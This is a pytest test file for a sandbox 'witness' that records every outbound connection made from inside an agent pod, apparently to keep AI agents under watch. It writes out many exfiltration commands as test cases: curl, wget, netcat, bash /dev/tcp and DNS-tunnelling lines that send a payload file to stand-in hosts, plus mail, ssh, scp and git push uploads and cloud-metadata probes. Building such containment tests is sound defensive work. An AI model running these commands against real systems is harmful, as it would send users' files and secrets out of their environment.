"""The witness in a real pod: whatever is tried from inside, by whichever program, is recorded with where and what."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest

from gyges.sandbox.witness.body import BODY_LIMIT
from gyges.sandbox.witness.connection import IDLE
from gyges.sandbox.witness.journal import GENESIS, digest

from .conftest import Pod, body

pytestmark = pytest.mark.pod

PAYLOAD = "".join(hashlib.sha256(str(n).encode()).hexdigest() + "\n" for n in range(50)).encode()
SSH = "-i /tmp/key -o BatchMode=yes -o ConnectTimeout=10"


@dataclass(frozen=True)
class Try:
    """A command ($F is the path of the payload) and the record that it must leave; `exit` None: it may fail."""

    command: str
    kind: str
    record: dict[str, Any] = field(default_factory=dict)
    body: bytes | re.Pattern[bytes] | None = None
    exit: int | None = 0


def socket_of(family: str, kind: str, address: str, port: int, option: str = "pass") -> str:
    """A Python program that sends the payload through a plain socket."""
    return (
        f"python3 -c 'import os, socket as s\n"
        f'k = s.socket(s.{family}, s.{kind}); k.settimeout(5); {option}; k.connect(("{address}", {port}))\n'
        f'k.sendall(open(os.environ["F"], "rb").read()); k.close()\''
    )


def mail(connect: str, steps: str = "") -> str:
    """A Python program that mails the payload."""
    return (
        "python3 -c 'import os, smtplib, ssl\n"
        f"m = smtplib.{connect}\n{steps}\n"
        'm.sendmail("ops@lab.org", ["x@mail.holmgard.net", "y@mail.holmgard.net"], '
        'b"Subject: s\\r\\n\\r\\n" + open(os.environ["F"], "rb").read()); m.quit()\''
    )


def posted(host: str, port: int, **more: Any) -> dict[str, Any]:
    """Fields of the record of an HTTP request."""
    return {"host": host, "port": port, "transport": "tcp", **more}


HTTP = {
    "curl https": Try("curl -sS -T $F https://c1.holmgard.net/up", "http",
        posted("c1.holmgard.net", 443, method="PUT", tls=True, url="https://c1.holmgard.net/up", status=201), PAYLOAD),
    "curl http, odd port": Try("curl -sS --data-binary @$F http://c2.holmgard.net:8080/c?a=b", "http",
        posted("c2.holmgard.net", 8080, method="POST", tls=False, target="/c?a=b"), PAYLOAD),
    "curl that trusts anyone": Try("curl -ksS --data-binary @$F https://c3.holmgard.net:8443/", "http",
        posted("c3.holmgard.net", 8443, tls=True), PAYLOAD),
    "curl that trusts nobody": Try("curl -sS --capath /dev/null --cacert /tmp/other.crt -T $F https://c4.holmgard.net/", "tls",
        posted("c4.holmgard.net", 443, sni="c4.holmgard.net", accepted=False, alpn=["h2", "http/1.1"]), exit=60),
    "curl to an IPv4 address": Try("curl -sS -T $F https://198.51.100.7:4433/", "http",
        {"host": None, "address": "198.51.100.7", "port": 4433, "tls": True}, PAYLOAD),
    "curl to an IPv6 address": Try("curl -sS -g -T $F 'https://[2001:db8::7]/x'", "http",
        {"host": None, "address": "2001:db8::7", "port": 443, "tls": True}, PAYLOAD),
    "curl bound to the interface": Try("curl -sS --interface eth0 -T $F https://198.51.100.8/i", "http",
        {"address": "198.51.100.8", "method": "PUT"}, PAYLOAD),
    "curl bound to it, IPv6": Try("curl -sS -g --interface eth0 -T $F 'http://[2001:db8::8]/i'", "http",
        {"address": "2001:db8::8", "method": "PUT"}, PAYLOAD),
    "chunked": Try("cat $F | curl -sS -T - https://c5.holmgard.net/ch", "http", posted("c5.holmgard.net", 443), PAYLOAD),
    "waiting for 100-continue": Try("curl -sS -H 'Expect: 100-continue' --expect100-timeout 30 -m 10 -T $F http://c6.holmgard.net/",
        "http", posted("c6.holmgard.net", 80), PAYLOAD),
    "HTTP/1.0": Try("curl -sS -0 --data-binary @$F http://c7.holmgard.net/", "http", posted("c7.holmgard.net", 80), PAYLOAD),
    "form": Try("curl -sS -F file=@$F https://c8.holmgard.net/", "http", posted("c8.holmgard.net", 443), re.compile(re.escape(PAYLOAD))),
    "CONNECT proxy": Try("curl -sS -x http://proxy.holmgard.net:3128 -T $F https://c9.holmgard.net/x", "http",
        posted("c9.holmgard.net", 443, tls=True, url="https://c9.holmgard.net/x"), PAYLOAD),
    "proxy": Try("curl -sS -x http://proxy2.holmgard.net:3128 -T $F http://c10.holmgard.net/x", "http",
        posted("proxy2.holmgard.net", 3128, url="http://c10.holmgard.net/x"), PAYLOAD),
    "wget": Try("wget -q -O- --post-file=$F https://w1.holmgard.net/w", "http", posted("w1.holmgard.net", 443, method="POST"), PAYLOAD),
    "python requests": Try("python3 -c 'import os, requests as r; r.put(\"https://r1.holmgard.net/q\", open(os.environ[\"F\"], \"rb\"))."
        "raise_for_status()'", "http", posted("r1.holmgard.net", 443, method="PUT"), PAYLOAD),
    "in the headers": Try("curl -sS -H \"X-Data: $(base64 -w0 $F)\" https://h1.holmgard.net/", "http", posted("h1.holmgard.net", 443)),
    "in the path": Try("curl -sS https://h2.holmgard.net/$(head -c 30 $F)", "http",
        posted("h2.holmgard.net", 443, target=f"/{PAYLOAD[:30].decode()}")),
    "a request that is none": Try("printf 'GET / HTTP/1.1\\r\\nno header\\r\\n\\r\\n%s' \"$(cat $F)\" | nc -q 1 bad.holmgard.net 80", "tcp",
        posted("bad.holmgard.net", 80, protocol="http"), re.compile(rb"\AGET / HTTP/1.1\r\nno header\r\n\r\n" + re.escape(PAYLOAD[:-1]))),
}  # fmt: skip

RAW = {
    "python socket": Try(socket_of("AF_INET", "SOCK_STREAM", "p1.holmgard.net", 31337), "tcp",
        posted("p1.holmgard.net", 31337, protocol="raw", bytes_in=len(PAYLOAD)), PAYLOAD),
    "python socket, IPv6": Try(socket_of("AF_INET6", "SOCK_STREAM", "2001:db8::9", 9), "tcp", {"address": "2001:db8::9", "port": 9}, PAYLOAD),
    "/dev/tcp": Try("cat $F > /dev/tcp/d1.holmgard.net/4444", "tcp", posted("d1.holmgard.net", 4444, protocol="raw"), PAYLOAD),
    "nc": Try("nc -q 0 n1.holmgard.net 1 < $F", "tcp", posted("n1.holmgard.net", 1), PAYLOAD),
    "nc to an address": Try("nc -q 0 203.0.113.77 65535 < $F", "tcp", {"host": None, "address": "203.0.113.77", "port": 65535}, PAYLOAD),
    "openssl s_client": Try("(cat $F; sleep 0.3) | timeout 3 openssl s_client -quiet -connect o1.holmgard.net:9443 2>&1", "tcp",
        posted("o1.holmgard.net", 9443, protocol="tls"), PAYLOAD, exit=124),
    "something that looks like TLS": Try("(printf '\\x16\\x03\\x01\\x00\\x05'; cat $F) | nc -q 1 o2.holmgard.net 443", "tcp",
        posted("o2.holmgard.net", 443, protocol="tls")),
    "environment emptied": Try("env -i F=$F /bin/sh -c '/usr/bin/nc -q 0 e1.holmgard.net 80 < $F'", "tcp", posted("e1.holmgard.net", 80), PAYLOAD),
    "UDP": Try("head -c 1000 $F > /dev/udp/u1.holmgard.net/9999", "udp",
        {"host": "u1.holmgard.net", "port": 9999, "transport": "udp"}, PAYLOAD[:1000]),
    "UDP to an address": Try(socket_of("AF_INET", "SOCK_DGRAM", "203.0.113.5", 123), "udp", {"host": None, "address": "203.0.113.5", "port": 123}, PAYLOAD),
    "UDP, IPv6": Try(socket_of("AF_INET6", "SOCK_DGRAM", "2001:db8::5", 4500), "udp", {"address": "2001:db8::5", "port": 4500}, PAYLOAD),
    "UDP bound to the interface": Try(socket_of("AF_INET", "SOCK_DGRAM", "203.0.113.6", 514, 'k.setsockopt(s.SOL_SOCKET, 25, b"eth0")'), "udp",
        {"address": "203.0.113.6", "port": 514}, PAYLOAD),
    "FTP": Try("curl -sS -m 5 -T $F ftp://f1.holmgard.net/x", "tcp", posted("f1.holmgard.net", 21), re.compile(b"USER anonymous"), exit=None),
}  # fmt: skip

DNS = {
    "name": Try("getent hosts $(head -c 40 $F).q1.holmgard.net", "dns",
        {"query": f"{PAYLOAD[:40].decode()}.q1.holmgard.net", "address": "10.20.0.2", "port": 53, "transport": "udp"}),
    "foreign resolver": Try("dig +short +time=2 +tries=1 Q2.holmgard.net @8.8.8.8 | grep .", "dns",
        {"query": "Q2.holmgard.net", "type": "A", "address": "8.8.8.8", "transport": "udp"}),
    "foreign resolver, TCP": Try("dig +short +tcp +time=2 +tries=1 q3.holmgard.net @9.9.9.9 | grep .", "dns",
        {"query": "q3.holmgard.net", "address": "9.9.9.9", "transport": "tcp"}),
    "foreign resolver, IPv6": Try("dig +short +time=2 +tries=1 q4.holmgard.net @2001:4860:4860::8888 | grep .", "dns",
        {"query": "q4.holmgard.net", "address": "2001:4860:4860::8888"}),
    "resolver on loopback": Try("dig +short +time=2 +tries=1 q5.holmgard.net @127.0.0.53 | grep .", "dns", {"query": "q5.holmgard.net", "address": "127.0.0.53"}),
    "text": Try("dig +short TXT q6.holmgard.net | grep spf", "dns", {"query": "q6.holmgard.net", "type": "TXT"}),
    "mail exchanger": Try("dig +short MX q7.holmgard.net | grep mail.q7", "dns", {"query": "q7.holmgard.net", "type": "MX"}),
    "service": Try("dig +short SRV _sip._tcp.q8.holmgard.net | grep q8", "dns", {"query": "_sip._tcp.q8.holmgard.net", "type": "SRV"}),
    "IPv6 address": Try("dig +short AAAA q9.holmgard.net | grep :", "dns", {"query": "q9.holmgard.net", "type": "AAAA"}),
    "reverse": Try("dig +short -x $(dig +short A q10.holmgard.net) | grep q10.holmgard.net", "dns", {"type": "PTR", "answer": ["q10.holmgard.net"]}),
    "bytes that are no text": Try(r"dig +short 'a\000b\255.q11.holmgard.net' | grep .", "dns", {"query": r"a\000b\255.q11.holmgard.net"}),
    "not DNS at all": Try("nc -u -q 0 -w 1 192.0.2.53 53 < $F", "udp", {"address": "192.0.2.53", "port": 53}, PAYLOAD),
    "not DNS at all, TCP": Try("nc -q 0 192.0.2.54 53 < $F", "tcp", {"address": "192.0.2.54", "port": 53, "protocol": "raw"}, PAYLOAD),
}  # fmt: skip

_MAIL = {"mail_from": "ops@lab.org", "rcpt_to": ["x@mail.holmgard.net", "y@mail.holmgard.net"]}
_SENT = re.compile(rb"\r?\n".join(PAYLOAD.split()))
MAIL = {
    "plain": Try(mail('SMTP("m1.holmgard.net", 587)'), "smtp", posted("m1.holmgard.net", 587, tls=False, **_MAIL), _SENT),
    "STARTTLS and login": Try(
        mail('SMTP("m2.holmgard.net", 25)', 'm.starttls(context=ssl.create_default_context()); m.login("ops", "pass-w0rd")'), "smtp",
        posted("m2.holmgard.net", 25, tls=True, username="ops", password="pass-w0rd", **_MAIL), _SENT),
    "TLS from the start": Try(mail('SMTP_SSL("m3.holmgard.net", 465, context=ssl.create_default_context())'), "smtp",
        posted("m3.holmgard.net", 465, tls=True, **_MAIL), _SENT),
    "login and no message": Try(
        "python3 -c 'import smtplib; m = smtplib.SMTP(\"m4.holmgard.net\", 25); m.login(\"ops\", \"pass-w0rd\"); m.close()'", "tcp",
        posted("m4.holmgard.net", 25, protocol="smtp"), re.compile(b"(?i)AUTH PLAIN")),
    "a line without end": Try(
        "python3 -c 'import smtplib; m = smtplib.SMTP(\"m5.holmgard.net\", 25); m.sendmail(\"a@b.org\", [\"c@d.org\"], \"x\" * 1500000)'", "smtp",
        posted("m5.holmgard.net", 25), re.compile(b"x{1500000}")),
}  # fmt: skip

REMOTE = {
    "ssh": Try(f"ssh {SSH} u@s1.holmgard.net 'cat > x' < $F", "ssh",
        posted("s1.holmgard.net", 22, event="exec", command="cat > x", username="u"), PAYLOAD),
    "ssh on the https port": Try(f"ssh {SSH} -p 443 u@s2.holmgard.net 'tar x' < $F", "ssh", posted("s2.holmgard.net", 443, command="tar x"), PAYLOAD),
    "key": Try(f"ssh {SSH} u@s3.holmgard.net true; ssh-keygen -lf /tmp/key | grep -q SHA256", "ssh", posted("s3.holmgard.net", 22, event="auth")),
    "shell": Try(f"ssh {SSH} u@s4.holmgard.net < $F", "ssh", posted("s4.holmgard.net", 22, event="exec", command=None), PAYLOAD),
    "killed halfway": Try(f"(cat $F; sleep 2) | timeout 1 ssh {SSH} u@s5.holmgard.net 'cat > y'", "ssh",
        posted("s5.holmgard.net", 22, event="exec", command="cat > y"), PAYLOAD, exit=124),
    "scp": Try(f"scp -q {SSH} $F u@s6.holmgard.net:/data/w.bin", "ssh", posted("s6.holmgard.net", 22, event="file", path="/data/w.bin"), PAYLOAD),
    "scp, old protocol": Try(f"scp -q -O {SSH} $F u@s7.holmgard.net:/data/", "ssh", posted("s7.holmgard.net", 22, event="file", path="/data/payload"), PAYLOAD),
    "scp of a folder": Try(f"mkdir -p /tmp/d && cp $F /tmp/d/f && scp -q -r {SSH} /tmp/d u@s8.holmgard.net:", "ssh",
        posted("s8.holmgard.net", 22, event="file", path="/home/u/d/f"), PAYLOAD),
    "sftp": Try(f"echo \"put $F new\" | sftp -q -b - {SSH} u@s9.holmgard.net", "ssh", posted("s9.holmgard.net", 22, event="file", path="/home/u/new"), PAYLOAD),
    "rsync": Try(f"timeout 20 rsync -e 'ssh {SSH}' $F u@s10.holmgard.net:/data/", "ssh", posted("s10.holmgard.net", 22, event="exec"), exit=12),
    "forwarded port": Try(f"ssh {SSH} -W inner.holmgard.net:80 u@s11.holmgard.net < $F", "ssh",
        posted("s11.holmgard.net", 22, command="direct-tcpip inner.holmgard.net:80"), exit=None),
    "git push": Try("cd /tmp/repo && git push -q https://g1.holmgard.net/me/x.git HEAD:main", "http",
        posted("g1.holmgard.net", 443, target="/me/x.git/git-receive-pack", status=200), re.compile(b"PACK")),
    "git push over ssh": Try(f"cd /tmp/repo && GIT_SSH_COMMAND='ssh {SSH}' git push -q git@g2.holmgard.net:me/x.git HEAD:main", "ssh",
        posted("g2.holmgard.net", 22, event="exec", command="git-receive-pack 'me/x.git'"), re.compile(b"PACK")),
    "git clone": Try("git clone -q https://g3.holmgard.net/me/x.git /tmp/cloned", "http",
        posted("g3.holmgard.net", 443, target="/me/x.git/info/refs?service=git-upload-pack")),
}  # fmt: skip

TRIES = {f"{name}: {case}": t for name, table in vars().copy().items() if name in ("HTTP", "RAW", "DNS", "MAIL", "REMOTE") for case, t in table.items()}  # fmt: skip


@pytest.fixture(scope="module")
def ready(pod: Pod) -> Pod:
    """The pod with the payload, a key, a repository and a foreign authority in /tmp."""
    done = pod.run(
        "cat > /tmp/payload && ssh-keygen -q -t ed25519 -N '' -f /tmp/key"
        " && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /dev/null -out /tmp/other.crt -subj /CN=x 2>&1"
        " && git init -q /tmp/repo && cd /tmp/repo && cp /tmp/payload . && git add . && git -c user.name=a -c user.email=a@b commit -qm x",
        input=PAYLOAD.decode(),
    )
    assert done.returncode == 0, done.stderr
    return pod


@pytest.mark.parametrize("case", TRIES)
def test_recorded(case: str, ready: Pod) -> None:
    """What a program sends is on record with the destination that it was meant for, and its bytes as they were sent."""
    attempt = TRIES[case]
    done = ready.run(f"export F=/tmp/payload; {attempt.command}")
    if attempt.exit is not None:
        assert done.returncode == attempt.exit, done.stderr or done.stdout
    record = ready.find(kind=attempt.kind, **attempt.record)
    if isinstance(attempt.body, re.Pattern):
        assert attempt.body.search(body(record))
    elif attempt.body is not None:
        assert body(record) == attempt.body
        assert record["body"]["sha256"] == hashlib.sha256(attempt.body).hexdigest()
        assert not record["body"]["cut"]


def test_key_is_recorded(ready: Pod) -> None:
    """The fingerprint on record is that of the key which the client offered."""
    assert ready.run(f"ssh {SSH} v@k1.holmgard.net true").returncode == 0
    fingerprint = ready.run("ssh-keygen -lf /tmp/key").stdout.split()[1]
    assert ready.find(kind="ssh", host="k1.holmgard.net", event="auth")["key"] == fingerprint


REFUSED = {
    "ICMP": "s.socket(s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_ICMP).sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0data', ('8.8.8.8', 0))",
    "UDP-Lite": "s.socket(s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_UDPLITE).sendto(b'data', ('8.8.8.8', 9))",
    "multicast": "s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'data', ('224.0.0.251', 5353))",
}


@pytest.mark.parametrize("case", REFUSED)
def test_refused(case: str, ready: Pod) -> None:
    """What would leave by the interface unrecorded is refused to its sender."""
    assert "PermissionError" in ready.run(f'python3 -c "import socket as s; {REFUSED[case]}"').stderr


def test_own_services_stay_local(ready: Pod) -> None:
    """A server that the agent runs is reached by its loopback and its own address, and leaves no record."""
    before = len(ready.records())
    serve = "python3 -m http.server 8099 -d /etc/ssl >/dev/null 2>&1 & sleep 0.7;"
    fetch = "curl -sS http://127.0.0.1:8099/ && curl -sS http://$(hostname -i | cut -d' ' -f1):8099/ && curl -sS -g 'http://[::1]:8098/'"
    serve6 = "python3 -m http.server 8098 --bind ::1 -d /etc/ssl >/dev/null 2>&1 & sleep 0.7;"
    assert ready.run(f"{serve} {serve6} {fetch}; echo exit $?; kill %1 %2").stdout.count("Directory listing") >= 3
    assert [r for r in ready.records(before - 1) if r["kind"] not in ("dns",)] == []


def test_many_requests_on_a_connection(ready: Pod) -> None:
    """Each request of a connection that is kept has its record, in order, with its own body."""
    program = (
        "import requests as r\ns = r.Session()\n"
        "for n in range(60): assert s.post(f'https://k2.holmgard.net/{n}', data=str(n)).status_code == 201"
    )
    assert ready.run(f'python3 -c "{program}"').returncode == 0
    records = [r for r in ready.records() if r["kind"] == "http" and r["host"] == "k2.holmgard.net"]
    assert [r["target"] for r in records] == [f"/{n}" for n in range(60)]
    assert [body(r) for r in records] == [str(n).encode() for n in range(60)]
    assert len({r["connection"] for r in records}) == 1


def test_plausible_answers(ready: Pod) -> None:
    """Unknown hosts answer as ordinary servers do; the metadata address has nothing to give."""
    headers = ready.run("curl -sSi https://z1.holmgard.net/").stdout.lower()
    assert headers.startswith("http/1.1 200 ok")
    assert "server: nginx" in headers
    assert "date: " in headers
    assert json.loads(ready.run("curl -sS -d x=1 https://z1.holmgard.net/api").stdout)["id"]
    assert ready.run("curl -sS -o /dev/null -w '%{http_code}' -X DELETE https://z1.holmgard.net/a").stdout == "204"
    assert ready.run("curl -sSI https://z1.holmgard.net/").returncode == 0
    for path in ("latest/meta-data/", "latest/api/token", ""):
        assert ready.run(f"curl -sS -o /dev/null -w '%{{http_code}}' http://169.254.169.254/{path}").stdout == "404"


def test_scenario_answers(ready: Pod) -> None:
    """Answers of the scenario take the place of the plausible ones, and a fixed address is kept."""
    entry = {"method": "GET", "path": "/v1/*", "status": 418, "headers": {"X-Cluster": "eu2"}, "body": '{"quota": 7}'}
    answers = {"hosts": {"*.basaltrack.net": {"http": [entry]}, "reg.int.lab.org": {"address": "10.9.8.7"}}, "internal": ["*.lab.org"]}
    assert ready.ask("answers", input=json.dumps(answers)).returncode == 0
    shown = ready.run("curl -sSi https://api.basaltrack.net/v1/nodes?x=1").stdout
    assert " 418 " in shown
    assert "X-Cluster: eu2" in shown
    assert shown.endswith('{"quota": 7}')
    assert "418" not in ready.run("curl -sSi https://api.basaltrack.net/other").stdout
    assert ready.run("getent ahostsv4 reg.int.lab.org").stdout.startswith("10.9.8.7 ")
    assert ready.run("getent ahostsv4 other.lab.org").stdout.startswith("10.")
    assert ready.find(kind="http", host="api.basaltrack.net", target="/v1/nodes?x=1")["status"] == 418


WRONG_ANSWERS = {
    "no JSON": ("{", "Expecting"),
    "unknown key": ('{"host": {}}', "host"),
    "no address": ('{"hosts": {"a.b": {"address": "here"}}}', "here"),
    "no status": ('{"hosts": {"a.b": {"http": [{"status": "ok"}]}}}', "ok"),
}


@pytest.mark.parametrize("case", WRONG_ANSWERS)
def test_wrong_answers(case: str, ready: Pod) -> None:
    """Answers that are none are refused with what is wrong."""
    given, named = WRONG_ANSWERS[case]
    done = ready.ask("answers", input=given)
    assert done.returncode == 1
    assert named in done.stderr


def test_open_connection_is_shown(ready: Pod) -> None:
    """What a connection has brought so far is on record while it is open, once for each time that there was more."""
    program = "import socket, time; k = socket.create_connection(('203.0.113.90', 7000)); k.sendall(b'one'); time.sleep(4); k.sendall(b'two'); time.sleep(4)"
    ready.run(f'nohup python3 -c "{program}" >/dev/null 2>&1 &')
    time.sleep(1.5)
    first = ready.find(kind="tcp", address="203.0.113.90", open=True)
    assert (body(first), first["bytes_in"]) == (b"one", 3)
    assert len([r for r in ready.records() if r.get("address") == "203.0.113.90"]) == 1
    time.sleep(4)
    assert body(ready.find(kind="tcp", address="203.0.113.90", open=True, bytes_in=6)) == b"onetwo"
    last = ready.find(kind="tcp", address="203.0.113.90", timeout=10, protocol="raw", error=None, bytes_in=6)
    while "open" in last:
        time.sleep(0.5)
        last = ready.find(kind="tcp", address="203.0.113.90", bytes_in=6)
    assert body(last) == b"onetwo"


def test_request_that_goes_on_is_shown(ready: Pod) -> None:
    """The body of a request that does not end is on record before its end, and a client that breaks off leaves it there."""
    ready.run("(cat /tmp/payload; sleep 3) | timeout 2 curl -sS -T - http://slow.holmgard.net/up >/dev/null 2>&1 & sleep 1")
    assert body(ready.find(kind="tcp", host="slow.holmgard.net", open=True)) == PAYLOAD
    broken = ready.find(kind="http", host="slow.holmgard.net")
    assert broken["status"] is None
    assert body(broken) == PAYLOAD


def test_large_upload(new_pod: Callable[[], Pod]) -> None:
    """Of 50 MB the front is kept; size and hash are those of the whole."""
    pod = new_pod()
    done = pod.run(
        "head -c 50000000 /dev/urandom > /tmp/big && curl -sS -o /dev/null -T /tmp/big https://big.holmgard.net/ && sha256sum /tmp/big"
    )
    record = pod.find(kind="http", host="big.holmgard.net")
    assert record["body"]["sha256"] == done.stdout.split()[0]
    assert (record["body"]["bytes"], record["body"]["cut"], len(body(record))) == (50_000_000, True, BODY_LIMIT)


def test_storage_is_bounded(new_pod: Callable[[], Pod]) -> None:
    """When long bodies have used up what may be stored, short ones are still kept, and long ones counted and hashed."""
    pod = new_pod()
    pod.run("head -c 5000000 /dev/zero > /tmp/z; for n in $(seq 12); do curl -sS -o /dev/null -T /tmp/z http://many.holmgard.net/$n; done")
    pod.run("curl -sS -d little=1 http://little.holmgard.net/")
    sizes = [r["body"] for r in pod.records() if r["kind"] == "http" and r["host"] == "many.holmgard.net"]
    assert [b["bytes"] for b in sizes] == [5_000_000] * 12
    assert len({b["sha256"] for b in sizes}) == 1
    assert sum(len(b["stored"]) for b in sizes) < 34 * 1024 * 1024 * 4 / 3
    assert all(b["cut"] for b in sizes)
    assert body(pod.find(kind="http", host="little.holmgard.net")) == b"little=1"


def test_many_connections_at_once(new_pod: Callable[[], Pod]) -> None:
    """A hundred uploads at the same time to a hundred hosts are a hundred records; four hundred are all on record too."""
    pod = new_pod()
    done = pod.run("for n in $(seq 100); do curl -sS -o /dev/null -d $n https://x$n.holmgard.net/ & done; wait", timeout=120)
    assert done.stderr == ""
    found = {(r["host"], body(r)) for r in pod.records() if r["kind"] == "http"}
    assert found == {(f"x{n}.holmgard.net", str(n).encode()) for n in range(1, 101)}

    program = (
        "import socket, time\nopen = [socket.create_connection(('203.0.113.1', 1000 + n)) for n in range(400)]\n"
        "for n, k in enumerate(open):\n    try: k.sendall(b'%d' % n)\n    except OSError: pass\ntime.sleep(2)"
    )
    assert pod.run(f'python3 -c "{program}"').returncode == 0
    pod.find(kind="tcp", port=1399)
    seen = [r for r in pod.records() if r["kind"] == "tcp" and r["address"] == "203.0.113.1"]
    assert {r["port"] for r in seen} == set(range(1000, 1400))
    assert any("connections at a time" in (r["error"] or "") for r in seen)
    assert not [r for r in pod.records() if r["kind"] == "fault"]


GARBAGE = """
import os, random, socket
random.seed(7)
starts = [b"", b"\\x16\\x03\\x01\\x02\\x00", b"GET / HTTP/1.1\\r\\n", b"POST /x HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n", b"SSH-2.0-x\\r\\n", b"EHLO x\\r\\n",
          b"CONNECT a:b HTTP/1.1\\r\\n\\r\\n", b"\\x00\\x20", b"GET http://[/ HTTP/1.1\\r\\nHost: \\xff\\r\\n\\r\\n"]
for port in (21, 22, 25, 53, 80, 443, 465, 587, 853, 2222, 8080, 9999):
    for start in starts:
        for size in (0, 1, 40, 5000):
            data = start + random.randbytes(size)
            try:
                with socket.create_connection(("198.51.100.99", port), 5) as k:
                    k.sendall(data)
            except OSError: pass
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, ("198.51.100.99", port))
"""


def test_garbage(new_pod: Callable[[], Pod]) -> None:
    """Hundreds of connections and datagrams of nonsense are recorded, and none of them is a fault of the witness."""
    pod = new_pod()
    assert pod.run("python3 -", input=GARBAGE, timeout=180).returncode == 0
    time.sleep(1)
    records = pod.records()
    assert [r for r in records if r["kind"] == "fault"] == []
    assert len([r for r in records if r["kind"] == "tcp"]) >= 12 * 9 * 4
    assert len([r for r in records if r.get("transport") == "udp"]) >= 12 * 9 * 4
    assert pod.ask("healthy").returncode == 0


def test_idle_connection_ends(new_pod: Callable[[], Pod]) -> None:
    """A request that trickles in is on record while it does, and a connection that says nothing is closed within the minute."""
    pod = new_pod()
    slow = (
        "import socket, time\nk = socket.create_connection(('198.51.100.66', 80)); k.sendall(b'GET / HTTP/1.1\\r\\nA: ')\n"
        "for n in range(3): k.sendall(b'b'); time.sleep(1)\n"
        "began = time.time(); k.settimeout(70); k.recv(9); print(time.time() - began)"
    )
    job = subprocess.Popen(["docker", "exec", pod.agent, "python3", "-c", slow], stdout=subprocess.PIPE, text=True)
    time.sleep(2)
    assert pod.find(kind="tcp", address="198.51.100.66", open=True)["bytes_in"] >= 20
    out, _ = job.communicate(timeout=90)
    assert IDLE - 5 < float(out) < 60
    assert bytes.fromhex(pod.find(kind="tcp", address="198.51.100.66", bytes_in=22)["first"]).startswith(b"GET / HTTP/1.1\r\nA: bbb"[:22])


def test_chain(ready: Pod) -> None:
    """Records are numbered without a gap, and each carries the hash of the one before, up to the head that is stated."""
    state = json.loads(ready.ask("records", "--limit", "1").stdout.splitlines()[0])
    records = ready.records()[: state["total"]]
    assert [r["seq"] for r in records] == list(range(len(records)))
    assert [r["prev"] for r in records] == [GENESIS, *(r["hash"] for r in records[:-1])]
    assert [r["hash"] for r in records] == [digest(r) for r in records]
    assert (records[-1]["hash"], records[0]["kind"], state["ready"]) == (state["head"], "ready", True)


def test_no_fault(ready: Pod) -> None:
    """All of the above went through without a fault of the witness. Keep this behind the others."""
    assert [r for r in ready.records() if r["kind"] == "fault"] == []


def test_stops_at_once(new_pod: Callable[[], Pod]) -> None:
    """The witness runs without a capability, and ends within half a second of being told to."""
    pod = new_pod()
    status = subprocess.run(["docker", "exec", pod.witness, "cat", "/proc/1/status"], capture_output=True, text=True, check=True)
    assert re.search(r"^CapEff:\t0+$", status.stdout, re.MULTILINE)
    began = time.monotonic()
    subprocess.run(["docker", "stop", "-t", "10", pod.witness], check=True, capture_output=True)
    assert time.monotonic() - began < 1.5
